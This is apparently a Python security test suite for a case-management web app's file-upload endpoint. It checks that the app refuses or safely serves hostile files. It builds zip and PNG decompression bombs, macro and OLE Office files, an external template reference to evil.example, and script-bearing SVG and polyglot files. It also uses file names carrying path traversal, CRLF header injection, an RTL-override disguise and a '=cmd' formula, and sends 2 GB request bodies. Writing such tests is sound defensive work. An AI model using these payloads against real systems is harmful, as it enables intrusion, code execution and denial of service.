"""Files that no office would send: too large, bursting when unpacked, something else than they say, with macros, with names like paths."""

import io
import socket
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator

from tools.security.checks import Attack, check
from tools.security.outcome import Outcome
from tools.security.server import HOST
from tools.security.visitor import Visitor

PNG = b"\x89PNG\r\n\x1a\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
TWO_GB = 2 * 1024**3


def office(kind: str, **parts: bytes) -> bytes:
    """A small Office file with these parts besides."""
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml" if kind == "docx" else "xl/workbook.xml", "<x/>")
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return found.getvalue()


def bomb(kind: str, megabytes: int = 600) -> bytes:
    """A small file that unpacks to so much."""
    return office(kind, xl__sharedStrings_dot_xml=bytes(megabytes * 1024 * 1024))


def huge_picture() -> bytes:
    """A PNG of 40,000 × 40,000 pixels in few bytes."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    head = struct.pack(">IIBBBBB", 40_000, 40_000, 1, 0, 0, 0, 0)
    return PNG + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(5_001) * 64, 9)) + chunk(b"IEND", b"")


def evil_files() -> Iterator[tuple[str, bytes, bool]]:
    """(name, content, whether it may be taken)."""
    yield from (("x.svg", SVG, False), ("x.html", b"<script>alert(1)</script>", False), ("x.exe", b"MZ", False), ("x.docm", office("docx"), False))
    yield from (("x.xlsm", office("xlsx"), False), ("x.png", SVG, False), ("x.jpg", b"<html>", False), ("x.pdf", b"MZ\x90%PDF-1.4", False))
    yield "macro.docx", office("docx", word__vbaProject_dot_bin=b"x"), False
    yield "macro.xlsx", office("xlsx", xl__vbaProject_dot_bin=b"x"), False
    yield "outside.docx", office("docx", word___rels__settings_dot_xml_dot_rels=b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'), False
    yield "ole.docx", office("docx", word__embeddings__oleObject1_dot_bin=b"x"), False
    yield "bomb.xlsx", bomb("xlsx"), False
    yield "bomb.docx", bomb("docx"), False
    yield "plain.docx", b"PK\x03\x04 not a zip", False
    yield "names.docx", office("docx", **{".." + "__.." * 9 + "__etc__passwd": b"x"}), False
    yield "empty.pdf", b"", False
    yield "fake.mp4", b"\x00\x00\x00<html>", False
    yield from (("polyglot.jpg", JPEG + b"<script>alert(1)</script>", True), ("polyglot.pdf", b"%PDF-1.4\n<script>alert(1)</script>", True))
    yield "huge.png", huge_picture(), True
    for name in ("../../../../etc/cron.d/x.pdf", "..\\..\\x.pdf", "a\x00.pdf", "n" * 5000 + ".pdf", "con.pdf", '"><script>alert(1)</script>.pdf', "x\r\nX-Evil: 1.pdf", "\u202efdp.exe.pdf", "=cmd|'!A0.pdf"):
        yield name, b"%PDF-1.4\n", True


def attach(who: Visitor, case: int, name: str, content: bytes) -> object:
    """Hand a file in as the page does."""
    return who.send("POST", f"/cases/{case}/steps/attach", data={"csrf_token": who.token, "kind": "other", "caption": "x"}, files={"file": (name, content)})


def own_case(attack: Attack, who: Visitor) -> int:
    """An open dispute to which this person may attach something."""
    for (case,) in attack.target.rows("SELECT id FROM cases WHERE process = 'dispute' AND closed_at IS NULL ORDER BY id DESC"):
        if who.get(f"/cases/{case}/steps/attach").status == 200:
            return int(case)
    raise LookupError("no dispute takes files")


@check
def evil_uploads(attack: Attack, outcome: Outcome) -> None:
    """Macros, bombs, pictures of a billion pixels, scripts under other names, polyglots, names like paths: refused, or handed out as a download that runs nothing."""
    who = attack.visitors["head"]
    case, before = own_case(attack, who), attack.target.memory_mb()
    for name, content, takes in evil_files():
        began = time.monotonic()
        answer = attach(who, case, name, content)
        told = f"{name[:40]!r}: {answer.status}"
        outcome.expect(answer.status in ((302, 422) if takes else (422, 400)), f"{told}: {'broke' if takes else 'was taken'}")
        outcome.expect(time.monotonic() - began < 10, f"{told}: took {time.monotonic() - began:.0f} s")
    for (file, stored, kept) in attack.target.rows("SELECT id, stored, name FROM attachments WHERE case_id = :case", case=case):
        answer = who.get(f"/cases/{case}/files/{file}")
        good = answer.header("Content-Disposition").startswith("attachment") and answer.header("X-Content-Type-Options") == "nosniff"
        outcome.expect(answer.status != 200 or (good and "sandbox" in answer.header("Content-Security-Policy")), f"{kept!r} would run in a browser")
        outcome.expect("/" not in stored and len(kept) <= 120 and "\r" not in kept and "\x00" not in kept, f"kept as {stored!r}, {kept!r}")
    outside = [path for path in attack.target.folder.rglob("*") if path.is_file() and path.name in ("x.pdf", "passwd")]
    outcome.expect(not outside, f"written outside of the store: {outside}")
    outcome.facts["worker_mb_before_after"] = [round(before, 1), round(attack.target.memory_mb(), 1)]
    outcome.expect(attack.target.memory_mb() - before < 250, "memory grew by more than 250 MB")


def raw_upload(attack: Attack, who: Visitor, head: str, piece: bytes, most: int, seconds: float) -> tuple[str, int]:
    """Send a body without end until somebody stops it: (first line of the answer, bytes sent)."""
    sent, cookie = 0, "; ".join(f"{k}={v}" for k, v in who.cookies.items())
    with socket.create_connection(("127.0.0.1", attack.target.port), timeout=20) as line:
        start = f"POST /cases/new HTTP/1.1\r\nHost: {HOST}\r\nX-Forwarded-Proto: https\r\nCookie: {cookie}\r\nContent-Type: multipart/form-data; boundary=x\r\n{head}\r\n\r\n"
        line.sendall(start.encode())
        end = time.monotonic() + seconds
        try:
            while sent < most and time.monotonic() < end:
                line.sendall(piece)
                sent += len(piece)
        except OSError:
            pass
        try:
            return line.recv(200).split(b"\r\n")[0].decode("latin-1"), sent
        except OSError as fault:
            return type(fault).__name__, sent


@check
def two_gigabytes(attack: Attack, outcome: Outcome) -> None:
    """A body of 2 GB, told before or streamed in pieces without an end: refused long before, without memory or disk."""
    who, before = attack.visitors["head"], attack.target.memory_mb()
    part = b'--x\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n\r\n' + JPEG
    piece = part + bytes(1 << 20)
    told, sent = raw_upload(attack, who, f"Content-Length: {TWO_GB}", piece, TWO_GB, 20)
    outcome.expect(("413" in told or "Reset" in told or "Pipe" in told or not told) and sent < TWO_GB / 4, f"2 GB announced: {told!r} after {sent // 2**20} MB")
    chunk = f"{len(piece):x}\r\n".encode() + piece + b"\r\n"
    streamed, passed = raw_upload(attack, who, "Transfer-Encoding: chunked", chunk, TWO_GB, 20)
    outcome.expect(passed < TWO_GB / 4, f"2 GB streamed: {streamed!r} after {passed // 2**20} MB")
    outcome.expect(attack.target.memory_mb() - before < 150, "memory grew by more than 150 MB")
    outcome.expect(attack.visitors["worker"].get("/desk").status == 200, "nobody else is served afterwards")
    outcome.facts |= {"announced": [told, sent // 2**20], "streamed": [streamed, passed // 2**20], "worker_mb": round(attack.target.memory_mb(), 1)}
